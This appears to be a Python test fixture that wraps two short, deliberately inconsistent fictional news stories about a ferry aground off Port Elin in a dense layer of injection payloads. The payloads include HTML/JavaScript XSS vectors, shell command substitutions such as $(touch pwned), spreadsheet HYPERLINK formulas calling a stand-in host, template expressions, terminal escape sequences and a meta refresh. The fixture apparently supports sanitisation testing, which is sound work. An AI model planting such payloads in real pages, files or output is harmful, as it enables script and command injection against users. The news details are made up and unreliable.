"""A short piece of news, told twice, in which everything that could be code, markup, a formula or a command is."""

from __future__ import annotations

from typing import Final

HOST: Final = "http://stranger.example"
NAME: Final = "=cmd '\"\x1b[31m\u202e<img src=x onerror=pwn()> $(touch pwned); `touch pwned` & #?%2e%2e {{7*7}}.txt"
"""A file's name that is all of these as well."""

_A: Final = f"""<script>window.pwned=1;document.title='owned'</script> Ferry </title><svg onload=window.pwned=1> runs aground

By <b onmouseover=window.pwned=1>Ida Voss</b>

PORT ELIN (AP) — A ferry with 120 people on board ran aground off Port Elin on Monday, the {{{{7*7}}}} coast guard said.
</script><script>window.pwned=1</script> The "ferry" had left on Monday, May 6, 2024, at 9 a.m. <!-- and was due at noon.

"<img src=x onerror=window.pwned=1> Nobody was hurt," said Captain Jonas "datum.x" Berg of the Javascript:alert(1) Coast Guard. He
spoke of $\\href{{javascript:window.pwned=1}}{{x}}$ and \\(x^2\\) and $$y$$ and of [a link](javascript:window.pwned=1).

=HYPERLINK("{HOST}/a","Elin Line") owns the ferry. +1 ship is missing. -2 are late. @SUM(1,1) was paid. It cost ;=1+1 dollars.

The Elin Line "')+alert(1)+('" said it would pay $5 million for hotels. {{"signal": "width"}} It has ![a picture]({HOST}/pic.png) of it.
Mayor Anna {{"url": "{HOST}/v.json"}} Lund called it <a href="javascript:window.pwned=1">a shame</a> \x1b]8;;{HOST}\x07and\x1b]8;;\x07
\x1b[2J\x9b31m\x1b]52;c;aGk=\x07 left. !touch pwned. %run {HOST}/x.py. get_ipython().system("touch pwned"). '''; import os; '''

A \u202eyrref\u202c and a fer\u200bry on a sandbank [bold red]off[/] [link={HOST}]Port Elin[/link], Monday, May 6, 2024. (Ida <i>Voss</i>/AP)

# A heading ${{7*7}} %s {{0}} </style><style>body{{background:url({HOST}/bg.png)}}</style> stood over it, the coast guard said.
"""
_B: Final = f"""<script>window.pwned=1</script> Passengers stranded </script> after ferry hits sandbank

A ferry carrying 130 passengers ran aground near Port Elin on Tuesday, according to the {{{{7*7}}}} coast guard. <iframe src="{HOST}"></iframe>

"<img src=x onerror=window.pwned=1> No one was hurt," Captain Jonas "datum.y" Berg said. The vessel left at 10 a.m. on May 7, 2024.
<details ontoggle=window.pwned=1 open><summary>x</summary></details> =HYPERLINK("{HOST}/b") was paid $6 million by the Elin Line.

Mayor Anna {{"url": "{HOST}/w.json"}} Lund said the “<svg/onload=window.pwned=1>” school was open. <object data="{HOST}/o"></object>
Nobody saw -3 ships. `rm -rf x` ``` and ~~~ [x]: {HOST} "t" <base href="{HOST}"> <meta http-equiv=refresh content="0;url={HOST}">
"""


def lines(text: str) -> str:
    """A text whose paragraphs are a line each."""
    return "\n\n".join(part.replace("\n", " ") for part in text.strip().split("\n\n"))


A: Final = lines(_A)
B: Final = lines(_B)
STORY: Final = f"{A}\n\n{B}\n"
